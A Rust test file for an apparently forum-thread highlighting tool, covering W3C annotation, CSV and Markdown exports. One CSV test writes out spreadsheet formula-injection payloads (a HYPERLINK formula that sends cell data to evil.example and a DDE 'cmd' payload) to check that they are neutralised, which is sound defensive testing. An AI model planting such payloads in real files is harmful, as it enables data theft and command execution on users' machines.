//! Exports: W3C Web Annotation validated against the W3C test schemas, CSV quoting.

use std::path::PathBuf;

use jsonschema::{Draft, Retrieve, Uri};
use serde_json::Value;
use threadmark_core::export::{export, export_at, ExportFormat};
use threadmark_core::{Library, NewHighlight, SourceFormat};

fn w3c() -> PathBuf {
    super::corpus().join("annotation/w3c")
}

/// Serves the W3C test suite's `definitions/*.json` to `$ref`s.
struct Definitions;

impl Retrieve for Definitions {
    fn retrieve(
        &self,
        uri: &Uri<String>,
    ) -> Result<Value, Box<dyn std::error::Error + Send + Sync>> {
        let name = uri
            .path()
            .as_str()
            .rsplit('/')
            .next()
            .unwrap_or_default()
            .to_string();
        let text = std::fs::read_to_string(w3c().join("definitions").join(&name))?;
        Ok(serde_json::from_str(&text)?)
    }
}

/// The assertions listed in a `*Musts.test` file, as compiled validators.
fn assertions(test: &str) -> Vec<(String, jsonschema::Validator)> {
    let t: Value =
        serde_json::from_str(&std::fs::read_to_string(w3c().join(test)).unwrap()).unwrap();
    let list = t["assertions"].as_array().unwrap();
    assert!(!list.is_empty());
    list.iter()
        .map(|a| {
            let path = a.as_str().unwrap();
            let schema: Value =
                serde_json::from_str(&std::fs::read_to_string(w3c().join(path)).unwrap()).unwrap();
            assert_eq!(schema["expectedResult"], "valid", "{path}");
            let v = jsonschema::options()
                .with_draft(Draft::Draft4)
                .with_base_uri("https://w3c.example/definitions/")
                .with_retriever(Definitions)
                .build(&schema)
                .unwrap_or_else(|e| panic!("{path}: {e}"));
            (path.to_string(), v)
        })
        .collect()
}

/// A new in-memory library holding the seed, imported as a text dump.
fn seed_library() -> (Library, i64) {
    let mut lib = Library::open_in_memory().unwrap();
    let id = lib
        .import_bytes(
            "seed.txt",
            super::seed().as_bytes(),
            SourceFormat::Text,
            None,
        )
        .unwrap()[0];
    (lib, id)
}

fn library_with_highlights() -> (Library, i64) {
    let (mut lib, id) = seed_library();
    let add = |lib: &mut Library,
               post: &str,
               exact: &str,
               label: Option<&str>,
               note: &str,
               tags: &[&str]| {
        lib.add_highlight(
            id,
            post,
            &NewHighlight {
                exact: exact.into(),
                label: label.map(str::to_string),
                note: note.into(),
                tags: tags.iter().map(|t| t.to_string()).collect(),
                ..Default::default()
            },
        )
        .unwrap()
    };
    add(
        &mut lib,
        "7",
        "solid background",
        Some("Claim"),
        "Is a degree *evidence*?",
        &["bio", "hardware"],
    );
    add(
        &mut lib,
        "19",
        "long waits for H1B visas",
        Some("Rebuttal"),
        "",
        &[],
    );
    add(
        &mut lib,
        "142",
        "赤热",
        None,
        "A TV drama, \"Silicon Wave\", with commas, quotes\nand a newline",
        &[],
    );
    (lib, id)
}

#[test]
fn w3c_export_passes_every_annotation_must() {
    let (lib, id) = library_with_highlights();
    let doc: Value =
        serde_json::from_str(&export(&lib, &[id], ExportFormat::W3c).unwrap()).unwrap();
    assert_eq!(doc["type"], "AnnotationCollection");
    let items = doc["first"]["items"].as_array().unwrap();
    assert_eq!(items.len(), 3);
    assert_eq!(doc["total"], 3);
    let musts = assertions("annotations/annotationMusts.test");
    assert_eq!(musts.len(), 54);
    for a in items {
        for (name, v) in &musts {
            let errors: Vec<String> = v.iter_errors(a).map(|e| e.to_string()).collect();
            assert!(errors.is_empty(), "{name}: {errors:?}\n{a:#}");
        }
        assert!(a["id"].as_str().unwrap().starts_with("urn:uuid:"));
        let sel = &a["target"]["selector"];
        assert_eq!(sel[0]["type"], "TextQuoteSelector");
        assert_eq!(sel[1]["type"], "TextPositionSelector");
    }
    // The schemas do bite: broken copies fail.
    for (key, bad) in [
        ("@context", Value::from("http://example.com/ctx")),
        ("type", Value::from("Note")),
        ("created", Value::from("yesterday")),
    ] {
        let mut broken = items[0].clone();
        broken[key] = bad;
        assert!(
            musts.iter().any(|(_, v)| !v.is_valid(&broken)),
            "a wrong {key} passed every assertion"
        );
    }
    let mut no_target = items[0].clone();
    no_target.as_object_mut().unwrap().remove("target");
    assert!(musts.iter().any(|(_, v)| !v.is_valid(&no_target)));
    let first = &items[0];
    assert_eq!(
        first["target"]["source"],
        format!("urn:threadmark:thread:{id}:post:7")
    );
    assert_eq!(first["target"]["selector"][0]["exact"], "solid background");
    assert_eq!(
        (
            first["target"]["selector"][1]["start"].as_i64(),
            first["target"]["selector"][1]["end"].as_i64()
        ),
        (Some(72), Some(88))
    );
    let purposes: Vec<(&str, &str)> = first["body"]
        .as_array()
        .unwrap()
        .iter()
        .map(|b| (b["purpose"].as_str().unwrap(), b["value"].as_str().unwrap()))
        .collect();
    assert_eq!(
        purposes,
        [
            ("tagging", "Claim"),
            ("tagging", "bio"),
            ("tagging", "hardware"),
            ("commenting", "Is a degree *evidence*?")
        ]
    );
    // Code points: the CJK highlight's offsets count characters, not bytes or UTF-16 units.
    let cjk = &items[2]["target"]["selector"];
    let text = lib.post(id, "142").unwrap().text;
    let start = cjk[1]["start"].as_u64().unwrap() as usize;
    assert_eq!(text.chars().skip(start).take(2).collect::<String>(), "赤热");
}

#[test]
fn w3c_collection_passes_every_collection_must() {
    let (lib, id) = library_with_highlights();
    let doc: Value =
        serde_json::from_str(&export(&lib, &[id], ExportFormat::W3c).unwrap()).unwrap();
    for (name, v) in assertions("collections/collectionMusts.test") {
        let errors: Vec<String> = v.iter_errors(&doc).map(|e| e.to_string()).collect();
        assert!(errors.is_empty(), "{name}: {errors:?}");
    }
}

#[test]
fn csv_quotes_commas_quotes_newlines_and_unicode() {
    let (lib, id) = library_with_highlights();
    let text = export(&lib, &[id], ExportFormat::Csv).unwrap();
    let mut r = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = r.headers().unwrap().iter().map(str::to_string).collect();
    assert_eq!(header[..3], ["thread_id", "thread_title", "post"]);
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 3);
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    assert_eq!(&rows[0][col("text")], "solid background");
    assert_eq!(&rows[0][col("tags")], "bio, hardware");
    assert_eq!(&rows[0][col("label")], "Claim");
    assert_eq!(&rows[2][col("text")], "赤热");
    assert_eq!(
        &rows[2][col("note")],
        "A TV drama, \"Silicon Wave\", with commas, quotes\nand a newline"
    );
    assert!(
        text.contains("\"A TV drama, \"\"Silicon Wave\"\", with commas, quotes\nand a newline\"")
    );
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_get_an_apostrophe() {
    let (mut lib, id) = library_with_highlights();
    // Post 13 of the seed reads "(accuracy + speed)": a highlight starting with `+`.
    lib.add_highlight(
        id,
        "13",
        &NewHighlight {
            exact: "+ speed)".into(),
            label: Some("Evidence".into()),
            note: "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")".into(),
            tags: vec!["@SUM(1+1)".into(), "=1+1".into()],
            ..Default::default()
        },
    )
    .unwrap();
    lib.add_highlight(
        id,
        "7",
        &NewHighlight {
            exact: "Electronics".into(),
            label: Some("Claim".into()),
            note: "-1+cmd|' /C calc'!A0\nsecond line, with a comma".into(),
            ..Default::default()
        },
    )
    .unwrap();
    let text = export(&lib, &[id], ExportFormat::Csv).unwrap();
    let mut r = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = r.headers().unwrap().iter().map(str::to_string).collect();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 5);
    let plus = rows.iter().find(|r| &r[col("post")] == "13").unwrap();
    assert_eq!(&plus[col("text")], "'+ speed)");
    assert_eq!(
        &plus[col("note")],
        "'=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")"
    );
    assert_eq!(&plus[col("tags")], "'=1+1, @SUM(1+1)");
    let minus = rows
        .iter()
        .find(|r| &r[col("text")] == "Electronics")
        .unwrap();
    assert_eq!(
        &minus[col("note")],
        "'-1+cmd|' /C calc'!A0\nsecond line, with a comma"
    );
    // No cell of the file starts with a formula character; ordinary cells are as
    // they were (the unicode and quoting of the other rows is unchanged).
    for row in &rows {
        for cell in row.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} would run as a formula"
            );
        }
    }
    let cjk = rows.iter().find(|r| &r[col("post")] == "142").unwrap();
    assert_eq!(&cjk[col("text")], "赤热");
    assert_eq!(
        &cjk[col("note")],
        "A TV drama, \"Silicon Wave\", with commas, quotes\nand a newline"
    );
    assert_eq!(&rows[0][col("text")], "solid background");
}

/// 2026-01-01T00:00:00Z.
const EXPORTED_AT: i64 = 1_767_225_600;

/// The YAML between the Markdown export's opening and closing `---` lines, parsed.
fn front_matter(md: &str) -> yaml_rust2::Yaml {
    let body = md
        .strip_prefix("---\n")
        .unwrap_or_else(|| panic!("no front matter:\n{md}"));
    let end = body.find("\n---\n").expect("front matter is closed");
    let docs = yaml_rust2::YamlLoader::load_from_str(&body[..end + 1])
        .unwrap_or_else(|e| panic!("front matter is not YAML: {e}\n{}", &body[..end]));
    assert_eq!(docs.len(), 1);
    docs.into_iter().next().unwrap()
}

fn strings(y: &yaml_rust2::Yaml) -> Vec<String> {
    y.as_vec()
        .unwrap_or_else(|| panic!("not a list: {y:?}"))
        .iter()
        .map(|i| i.as_str().expect("a string").to_string())
        .collect()
}

#[test]
fn markdown_front_matter_reads_back_with_a_yaml_parser_for_hostile_titles() {
    use threadmark_core::export::markdown::yaml_str;
    let (mut lib, id) = library_with_highlights();
    let hostile = [
        "Re: \"Quoted\": a title: with colons",
        "- starts like a list item",
        "? a key: [a, flow] {map: 1} | > folded",
        "#not a comment & *alias &anchor !tag %YAML @at `tick`",
        "'single' \"double\" \\backslash\\ \\n not a newline",
        "null",
        "true",
        "2026-01-01",
        "0x1F",
        "~",
        "---",
        "...",
        "key: value # comment",
        "Ünïcödé 中文 🦀 עברית — “curly” ‘quotes’",
        "line\u{2028}separator\u{2029}paragraph \u{feff}bom",
    ];
    for title in hostile {
        lib.rename_thread(id, title).unwrap();
        let md = export_at(&lib, &[id], ExportFormat::Markdown, EXPORTED_AT).unwrap();
        let fm = front_matter(&md);
        assert_eq!(fm["title"].as_str(), Some(title), "{md}");
        assert_eq!(fm["exported"].as_str(), Some("2026-01-01T00:00:00Z"));
        assert_eq!(fm["site"].as_str(), Some("text"));
        assert_eq!(strings(&fm["tags"]), ["bio", "hardware"]);
        // The seed's posts have no authors.
        assert_eq!(strings(&fm["authors"]), Vec::<String>::new());
        assert_eq!(fm["highlights"].as_i64(), Some(3));
        assert!(fm["saved"].as_str().unwrap().ends_with('Z'));
        assert!(fm["source"].is_badvalue(), "a text dump has no source URL");
    }
    // Strings no title can hold (controls, newlines) read back too.
    for s in [
        "two\nlines\r\nand a tab\there",
        "nul \u{0} bell \u{7} esc \u{1b} del \u{7f}",
        "c1 \u{80} nel \u{85} \u{9f}",
        "\u{fffe}\u{ffff} end",
        "  leading and trailing spaces  ",
        "",
    ] {
        let doc = format!("key: {}\n", yaml_str(s));
        let parsed =
            yaml_rust2::YamlLoader::load_from_str(&doc).unwrap_or_else(|e| panic!("{doc:?}: {e}"));
        assert_eq!(parsed[0]["key"].as_str(), Some(s), "{doc:?}");
    }
}

#[test]
fn markdown_front_matter_of_a_hacker_news_thread() {
    let (lib, id, _) = hn_with_highlights();
    let md = export_at(&lib, &[id], ExportFormat::Markdown, EXPORTED_AT).unwrap();
    let fm = front_matter(&md);
    assert_eq!(
        fm["title"].as_str(),
        Some("Run Qwen 3.8 Flash Next (125B) on consumer hardware (RTX 4090) at 100T/s")
    );
    assert_eq!(
        fm["source"].as_str(),
        Some("https://news.ycombinator.com/item?id=49953495")
    );
    assert_eq!(
        fm["link"].as_str(),
        Some("https://github.com/Niko1221/Strata")
    );
    // The authors of the highlighted posts, in thread order, each once.
    assert_eq!(strings(&fm["authors"]), ["proc0", "incognito124", "a11r"]);
    assert_eq!(strings(&fm["tags"]), ["_2026", "models", "open-weights"]);
    assert_eq!(fm["exported"].as_str(), Some("2026-01-01T00:00:00Z"));
}

/// The Hacker News corpus thread with four highlights (two on one post) and links.
fn hn_with_highlights() -> (Library, i64, Vec<threadmark_core::model::Highlight>) {
    let mut lib = Library::open_in_memory().unwrap();
    let file = super::corpus().join("hn/algolia/neonmodem-49953495-trimmed.json");
    let id = lib
        .import_bytes(
            &file.to_string_lossy(),
            &std::fs::read(&file).unwrap(),
            SourceFormat::Hn,
            None,
        )
        .unwrap()[0];
    let mut add = |post: &str, exact: &str, label: &str, note: &str, tags: &[&str]| {
        lib.add_highlight(
            id,
            post,
            &NewHighlight {
                exact: exact.into(),
                label: Some(label.into()),
                note: note.into(),
                tags: tags.iter().map(|t| t.to_string()).collect(),
                ..Default::default()
            },
        )
        .unwrap()
    };
    let hs = vec![
        add(
            "49955529",
            "The quality is superior for coding",
            "Evidence",
            "",
            &[],
        ),
        add(
            "49953722",
            "Qwen 3.8 flash next is way better than 27B",
            "Claim",
            "Strong claim;\nno numbers.",
            &["models", "open weights"],
        ),
        add(
            "49953575",
            "Do you know how it compares to Qwen 3.8 27B?",
            "Question",
            "",
            &["2026"],
        ),
        add("49955529", "superior", "Claim", "", &[]),
    ];
    lib.add_link(hs[0].id, threadmark_core::LinkKind::Supports, hs[1].id)
        .unwrap();
    lib.add_link(hs[1].id, threadmark_core::LinkKind::Answers, hs[2].id)
        .unwrap();
    (lib, id, hs)
}

/// Inline text of the Markdown inside `**…**` within block quotes, in order.
fn bold_in_quotes(md: &str) -> Vec<String> {
    use pulldown_cmark::{Event, Parser, Tag, TagEnd};
    let mut out = Vec::new();
    let (mut quote, mut strong) = (0, false);
    for event in Parser::new(md) {
        match event {
            Event::Start(Tag::BlockQuote(_)) => quote += 1,
            Event::End(TagEnd::BlockQuote(_)) => quote -= 1,
            Event::Start(Tag::Strong) if quote > 0 => {
                strong = true;
                out.push(String::new());
            }
            Event::End(TagEnd::Strong) => strong = false,
            Event::Text(t) if strong => out.last_mut().unwrap().push_str(&t),
            Event::SoftBreak | Event::HardBreak if strong => out.last_mut().unwrap().push(' '),
            _ => {}
        }
    }
    out
}

#[test]
fn markdown_highlights_in_thread_order_with_context_permalinks_and_links() {
    use pulldown_cmark::{Event, Parser, Tag};
    let (lib, id, hs) = hn_with_highlights();
    let md = export_at(&lib, &[id], ExportFormat::Markdown, EXPORTED_AT).unwrap();
    let highlights_part = &md[md.find("## Highlights").unwrap()..md.find("## Thread").unwrap()];
    // Thread order: the question (3rd post), the claim (4th), then the two on a11r's
    // post by their place in it; each rendered in bold inside its quote.
    let order = [&hs[2], &hs[1], &hs[0], &hs[3]];
    let bold = bold_in_quotes(highlights_part);
    assert_eq!(
        bold,
        order.iter().map(|h| h.exact.clone()).collect::<Vec<_>>()
    );
    // Each quote carries words of the post around the highlight, from the post.
    let blocks: Vec<&str> = highlights_part.split("\n### ").skip(1).collect();
    assert_eq!(blocks.len(), 4);
    let evidence = blocks[2];
    assert!(
        evidence.contains(
            "> We recently moved from 27B to Flash Next. **The quality is superior for coding**. Our workload is primarily"
        ),
        "{evidence}"
    );
    let word = blocks[3];
    assert!(
        word.contains(
            "> … recently moved from 27B to Flash Next. The quality is **superior** for coding."
        ),
        "{word}"
    );
    for (block, h) in blocks.iter().zip(order) {
        // Label, author and post in the heading; block id; the post's HN permalink.
        let post = lib.post(id, &h.post).unwrap();
        assert!(block.starts_with(&format!(
            "{} · {} · post {}",
            h.label.as_deref().unwrap(),
            post.author.as_deref().unwrap(),
            h.post
        )));
        assert!(block.contains(&format!("\n^h-{}\n", h.uuid)), "{block}");
        assert!(block.contains(&format!(
            "\nPost {} · https://news.ycombinator.com/item?id={} by {} · ",
            h.post,
            h.post,
            post.author.as_deref().unwrap()
        )));
    }
    // The note keeps its line break; tags are Obsidian tags.
    // The note is the Markdown written, under its own line.
    assert!(blocks[1].contains("**Note:**\n\nStrong claim;\nno numbers.\n"));
    assert!(blocks[1].contains("**Tags:** #models #open-weights"));
    assert!(blocks[0].contains("**Tags:** #_2026"));
    // Links both ways, to blocks that exist in the file.
    assert!(blocks[1].contains(&format!(
        "- supported by [[#^h-{}|Evidence: “The quality is superior for coding” (a11r)]]",
        hs[0].uuid
    )));
    assert!(blocks[1].contains(&format!("- answers [[#^h-{}|Question: ", hs[2].uuid)));
    assert!(blocks[0].contains(&format!("- answered by [[#^h-{}|Claim: ", hs[1].uuid)));
    assert!(blocks[2].contains(&format!("- supports [[#^h-{}|Claim: ", hs[1].uuid)));
    assert!(!blocks[3].contains("**Links:**"));
    for target in md.split("[[#^").skip(1) {
        let id = &target[..target.find('|').unwrap()];
        assert!(
            md.contains(&format!("\n^{id}\n")),
            "link to a missing block {id}"
        );
    }
    // No HTML but the managed blocks' marker lines, and no Markdown link (the
    // permalinks are bare URLs), whatever the posts hold.
    for event in Parser::new(&md) {
        match event {
            Event::Html(h)
                if h.starts_with("<!-- threadmark:")
                    && h.ends_with(" -->\n")
                    && h.lines().count() == 1 => {}
            Event::Html(h) | Event::InlineHtml(h) => panic!("HTML in the Markdown: {h}"),
            Event::Start(Tag::Link { dest_url, .. }) => panic!("a link to {dest_url}"),
            _ => {}
        }
    }
}

#[test]
fn markdown_permalinks_of_reddit_and_lobsters_posts() {
    for (file, format, want) in [
        (
            "reddit/3hahrw.interaction01.comments.json",
            SourceFormat::Reddit,
            "https://www.reddit.com/r/funny/comments/3hahrw/ba_dum_tsss/",
        ),
        (
            "lobsters/post_details_tdfoqh.2025-depth.json",
            SourceFormat::Lobsters,
            "https://lobste.rs/c/",
        ),
    ] {
        let mut lib = Library::open_in_memory().unwrap();
        let path = super::corpus().join(file);
        let id = lib
            .import_bytes(
                &path.to_string_lossy(),
                &std::fs::read(&path).unwrap(),
                format,
                None,
            )
            .unwrap()[0];
        // A comment's first three words.
        let post = lib
            .posts(id)
            .unwrap()
            .into_iter()
            .find(|p| p.depth > 0 && p.text.split_whitespace().count() > 5)
            .unwrap();
        let exact = post
            .text
            .split_whitespace()
            .take(3)
            .collect::<Vec<_>>()
            .join(" ");
        lib.add_highlight(
            id,
            &post.source_id,
            &NewHighlight {
                exact: exact.clone(),
                label: Some("Claim".into()),
                ..Default::default()
            },
        )
        .unwrap();
        let md = export_at(&lib, &[id], ExportFormat::Markdown, EXPORTED_AT).unwrap();
        let short = post.source_id.trim_start_matches("t1_");
        let link = format!(
            " · {want}{short}{} by ",
            if want.contains("reddit") { "/" } else { "" }
        );
        assert!(
            md.contains(&link),
            "{file}: no {link} in\n{}",
            &md[..md.find("## Thread").unwrap()]
        );
        assert_eq!(bold_in_quotes(&md)[0], exact, "{file}");
        assert_eq!(
            strings(&front_matter(&md)["authors"]),
            [post.author.clone().unwrap()],
            "{file}"
        );
        assert_eq!(
            front_matter(&md)["source"].as_str(),
            lib.thread(id).unwrap().url.as_deref()
        );
    }
}

#[test]
fn markdown_quotes_an_orphaned_highlight_with_its_stored_context() {
    let (mut lib, id) = seed_library();
    let h = lib
        .add_highlight(
            id,
            "18",
            &NewHighlight {
                exact: "middlemen".into(),
                // The first of its three occurrences in the post.
                prefix: Some("exclusively on ".into()),
                label: Some("Claim".into()),
                ..Default::default()
            },
        )
        .unwrap();
    // Post 18 edited: the highlighted words are gone from the thread.
    super::reimport_seed_without_middlemen(&mut lib, id);
    assert_eq!(lib.highlight(h.id).unwrap().state, "orphaned");
    let md = export_at(&lib, &[id], ExportFormat::Markdown, EXPORTED_AT).unwrap();
    assert!(md.contains("\n### Claim · post 18 · orphaned\n"), "{md}");
    // The words around it come from the context stored with the highlight.
    assert_eq!(bold_in_quotes(&md), ["middlemen"]);
    let quote = md
        .lines()
        .find(|l| l.starts_with("> ") && l.contains("**middlemen**"))
        .unwrap();
    assert!(
        quote.starts_with("> … ") && quote.contains("exclusively on **middlemen**, middlemen will"),
        "{quote}"
    );
}
